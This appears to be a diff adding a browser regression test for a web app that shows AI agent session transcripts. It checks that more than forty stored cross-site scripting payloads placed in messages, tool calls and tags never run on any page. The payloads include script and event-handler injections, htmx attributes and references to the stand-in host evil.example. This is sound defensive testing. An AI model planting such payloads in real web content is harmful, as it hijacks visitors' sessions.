@@ -1,0 +1,152 @@
+"""Stored XSS: known payloads in every field an agent or user writes, opened on
+every page that shows them. Proof that nothing ran: each payload would call
+``alert`` (a dialog, which the page fixture records), set ``window.__xss``, or
+reach ``evil.example`` (a foreign request, which the fixture aborts and records)."""
+
+from __future__ import annotations
+
+import base64
+from typing import Any
+
+import pytest
+
+from webapp.sessions import Message
+
+pytestmark = pytest.mark.browser
+
+SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()
+
+PAYLOADS = [
+    "<script>window.__xss=1;alert(1)</script>",
+    "<script src=https://evil.example/x.js></script>",
+    '<img src=x onerror="window.__xss=1;alert(1)">',
+    "<img src=https://evil.example/pixel.gif>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<a href='  javascript:alert(1)'>spaced</a>",
+    '<a href="jav&#x09;ascript:alert(1)">entity</a>',
+    "[md link](javascript:alert(1))",
+    "[md data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![md image](https://evil.example/img.png)",
+    "![md img js](javascript:alert(1))",
+    f"![svg data](data:image/svg+xml;base64,{SVG})",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example><button>go</button></form>",
+    "<div hx-get=https://evil.example/x hx-trigger=load>hx</div>",
+    '<div hx-get=/admin/clear hx-trigger=load hx-vals=\'{"confirm":"CLEAR"}\'>hx2</div>',
+    "<button hx-on:click=alert(1)>hx-on</button>",
+    "<div hx-on::load=alert(1)>hx-on load</div>",
+    "<div data-hx-get=https://evil.example/y data-hx-trigger=load>data-hx</div>",
+    "<div hx-swap-oob=true id=session-header>oob</div>",
+    "<img src=x hx-get=https://evil.example/z hx-trigger=load>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "{{7*7}}{% raw %}{% endraw %}<script>alert(1)</script>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "```html\n<script>alert(1)</script>\n```",
+    "<x onmouseover=alert(1) style=position:fixed;inset:0>cover</x>",
+]
+
+
+def store_payloads(live_server: Any) -> list[str]:
+    """A session per payload (request, error, context, messages, tags); return ids."""
+    manager = live_server.manager
+    ids = []
+    for i, payload in enumerate(PAYLOADS):
+        session = manager.create(payload, {"payload": payload, payload[:60]: i}, expires_at=None)
+        manager.set_running(session.id)
+        manager.append_messages(
+            session.id,
+            [
+                Message("user", payload),
+                Message("assistant", "long " + payload, summary=payload),
+                Message(
+                    "assistant",
+                    payload,
+                    meta={
+                        "kind": "tool_use",
+                        "tool_name": payload,
+                        "tool_input": {"command": payload},
+                    },
+                ),  # fmt: skip
+                Message("tool", payload, meta={"kind": "tool_result", "is_error": True}),
+                Message("assistant", payload, meta={"kind": "thinking"}),
+                Message(
+                    "user",
+                    payload,
+                    meta={"kind": "image", "media_type": "image/svg+xml", "data": SVG},
+                ),  # fmt: skip
+                Message("user", payload, meta={"kind": "note", "author": payload}),
+            ],
+        )
+        if i % 2:
+            manager.set_failed(session.id, payload)
+        else:
+            manager.set_completed(session.id, payload)
+        with live_server.app.test_request_context():
+            from webapp.review import service
+
+            try:
+                service.add_tag(session.id, payload[:30])
+            except ValueError:
+                pass
+        ids.append(session.id)
+    return ids
+
+
+def assert_inert(page: Any, page_log: Any, where: str) -> None:
+    assert page.evaluate("window.__xss") is None, where
+    assert page_log.dialogs == [], where
+    assert page_log.foreign_requests == [], where
+    assert page_log.page_errors == [], where
+
+
+def test_stored_payloads_stay_inert_on_every_page(
+    live_server: Any, page: Any, page_log: Any
+) -> None:
+    assert len(PAYLOADS) >= 40
+    ids = store_payloads(live_server)
+    live_server.login(page, "admin")
+    pages = ["/sessions", "/sessions?status=failed", "/stats", "/admin"]
+    pages += [f"/sessions/{sid}" for sid in ids]
+    for path in pages:
+        live_server.get(page, path)
+        assert_inert(page, page_log, path)
+    # The text is there, shown as text.
+    live_server.get(page, f"/sessions/{ids[0]}")
+    assert PAYLOADS[0] in page.locator("#session-header").inner_text()
+    assert page.locator("#transcript script, #transcript iframe, #transcript svg").count() == 0
+    assert page.locator("[hx-get*='evil'], [data-hx-get]").count() == 0
+    # Open every collapsed card too: nothing inside runs when shown.
+    for summary in page.locator("#transcript details > summary").all():
+        summary.click()
+    assert_inert(page, page_log, "opened cards")
+    assert live_server.manager.stats()  # the hx payload aimed at /admin/clear did nothing
+
+
+def test_untrusted_containers_carry_hx_ignore(live_server: Any, page: Any) -> None:
+    session = live_server.manager.create("x")
+    live_server.manager.append_message(session.id, Message("user", "hello"))
+    live_server.login(page, "viewer")
+    live_server.get(page, f"/sessions/{session.id}")
+    for selector in ("[data-message] .message-body", "#session-header .untrusted"):
+        assert page.locator(selector).get_attribute("hx-ignore") is not None
+    csp = page.evaluate("fetch(location.href).then(r => r.headers.get('content-security-policy'))")
+    assert "'unsafe-inline'" not in csp and "'unsafe-eval'" not in csp
